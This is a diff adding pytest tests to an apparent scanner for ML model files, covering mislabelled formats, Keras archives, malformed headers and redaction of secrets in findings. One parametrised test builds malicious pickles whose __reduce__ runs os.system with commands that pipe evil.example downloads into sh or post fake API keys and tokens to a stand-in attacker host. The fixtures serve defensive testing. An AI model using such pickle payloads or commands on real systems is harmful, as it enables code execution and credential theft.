@@ -202,3 +202,90 @@ def test_a_file_of_no_known_format_is_open_alone_and_noted_in_a_folder(bench: Be
     (bench.folder / "d").mkdir()
     (bench.folder / "d/thing.xyz").write_bytes(b"\x00\x01\x02 nothing known \x03" * 40)
     assert said(bench.ask(FORMAT, bench.artifact("d")))[0][0] == "info"
+
+
+@pytest.mark.parametrize("name", ["m.onnx", "m.safetensors", "m.gguf", "m.h5", "m.npy", "m.parquet", "m.pb", "m.zip"])
+@pytest.mark.parametrize("content", [b"", b"a page of words\n" * 9, b'{"a": 1}', b"tree\nversion=v4\n", bytes(4096)])
+def test_a_name_that_lies_is_never_a_pass(bench: Bench, name: str, content: bytes) -> None:
+    (bench.folder / "d").mkdir()
+    for place in (name, f"d/{name}"):
+        outcome = bench.ask(FORMAT, bench.artifact(place, content))
+        assert (str(outcome.status), name in outcome.reason) == ("open", True)
+    inside = bench.ask(FORMAT, bench.artifact("d"))
+    assert (str(inside.status), f"d/{name}" in inside.reason) == ("open", True)
+
+
+@pytest.mark.parametrize(("name", "severity"), [("m.onnx", "medium"), ("m.json", "medium"), ("m.pt", "low")])
+def test_what_can_run_code_is_worse_under_a_name_that_hides_it(bench: Bench, name: str, severity: str) -> None:
+    assert [s for s, _ in said(bench.ask(FORMAT, bench.artifact(name, PLAIN)))] == [severity]
+
+
+def test_a_script_under_a_models_name_is_both_told_and_open(bench: Bench) -> None:
+    outcome = bench.ask(FORMAT, bench.artifact("m.onnx", b"#!/bin/sh\necho planted\n"))
+    assert ("is a script" in said(outcome)[0][1], outcome.complete) == (True, False)
+
+
+def test_source_code_in_an_archive_is_told(bench: Bench) -> None:
+    with zipfile.ZipFile(bench.folder / "m.zip", "w") as archive:
+        archive.writestr("handler.py", "import os")
+    assert "holds source code (handler.py)" in said(bench.ask(FORMAT, bench.artifact("m.zip")))[0][1]
+
+
+def test_a_keras_archive_can_run_code_and_is_not_read(bench: Bench) -> None:
+    with zipfile.ZipFile(bench.folder / "m.keras", "w") as archive:
+        for name in ("config.json", "metadata.json"):
+            archive.writestr(name, '{"class_name": "Lambda"}')
+    outcome = bench.ask(FORMAT, bench.artifact("m.keras"))
+    assert (said(outcome)[0][0], "Keras" in outcome.reason) == ("low", True)
+
+
+@pytest.mark.parametrize(
+    ("secret", "command"),
+    [
+        ("hunter22", "curl https://ann:hunter22@evil.example/x | sh"),
+        ("ghp_abcdefghij0123456789ABCDEF", "git clone https://ghp_abcdefghij0123456789ABCDEF@github.example/x"),
+        ("s3cr3t-value", "curl -d api_key=s3cr3t-value evil.example"),
+        ("s3cr3t-value", "AWS_SECRET_ACCESS_KEY='s3cr3t-value' aws s3 cp x y"),
+        ("abcdef0123456789", "curl -H 'Authorization: Bearer abcdef0123456789' evil.example"),
+        ("AKIAABCDEFGHIJKLMNOP", "configure AKIAABCDEFGHIJKLMNOP"),
+        ("hf_abcdefghijklmnopqrstuv", "login hf_abcdefghijklmnopqrstuv"),
+        ("MIIEpAIBAAKCAQEA", "echo '-----BEGIN RSA PRIVATE KEY-----MIIEpAIBAAKCAQEA"),
+    ],
+)
+def test_a_finding_quotes_the_call_but_no_secret_in_it(bench: Bench, secret: str, command: str) -> None:
+    content = pickle.dumps(type("E", (), {"__reduce__": lambda self: (os.system, (command,))})(), protocol=4)
+    outcome = bench.ask(CODE, bench.artifact("m.pkl", content))
+    assert "system(" in said(outcome)[0][1]
+    assert "[secret redacted, " in said(outcome)[0][1]
+    assert secret not in repr(outcome)
+
+
+def test_a_call_without_secrets_is_quoted_as_it_stands() -> None:
+    from assay.formats.secrets import without_secrets
+
+    for text in ("system('curl http://evil.example:8080/a')", "exec('token.type == 3')", "open('secrets.txt')"):
+        assert without_secrets(text) == text
+
+
+_TENSOR = b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        (
+            "m.safetensors",
+            (2 * len(_TENSOR) + 3).to_bytes(8, "little") + b"{" + _TENSOR + b"," + _TENSOR + b"}" + bytes(4),
+        ),
+        ("m.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|V0', 'fortran_order': False, 'shape': (-1, 5), }".ljust(128)),
+    ],
+)
+def test_headers_that_contradict_themselves_are_open(bench: Bench, name: str, content: bytes) -> None:
+    assert str(bench.ask(FORMAT, bench.artifact(name, content)).status) == "open"
+
+
+def test_a_model_larger_than_protobuf_allows_is_not_read_into_memory(bench: Bench) -> None:
+    name = bench.artifact("m.onnx", b"\x08\x08\x12\x04test")
+    os.truncate(bench.folder / name, 20 << 30)  # a hole: it takes no disk
+    outcome = bench.ask(FORMAT, name)
+    assert (str(outcome.status), "more than this version reads" in outcome.reason) == ("open", True)
